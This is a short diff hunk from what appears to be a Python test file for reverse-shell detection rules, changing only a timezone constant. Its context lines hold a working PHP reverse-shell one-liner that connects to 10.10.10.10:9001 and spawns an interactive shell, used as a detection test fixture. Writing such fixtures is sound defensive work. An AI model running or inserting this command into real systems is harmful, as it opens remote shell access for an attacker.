@@ -45,7 +45,7 @@ def shipped() -> Ruleset:
 EXAMPLE = ROOT / "deploy" / "exceptions.example.yml"
 # the seed reverse shell of rule 100103 (PHP fsockopen), as an Elastic Defend process start
 PHP = ["php", "-r", '$s=fsockopen("10.10.10.10",9001);exec("/bin/sh -i <&3 >&3 2>&3");']
-NOW = datetime.datetime(2026, 12, 4, 10, 0, tzinfo=datetime.timezone.utc)
+NOW = datetime.datetime(2026, 12, 4, 10, 0, tzinfo=datetime.UTC)
 
 
 def _php(host: int = 0, user: str = "www-data") -> dict[str, Any]:
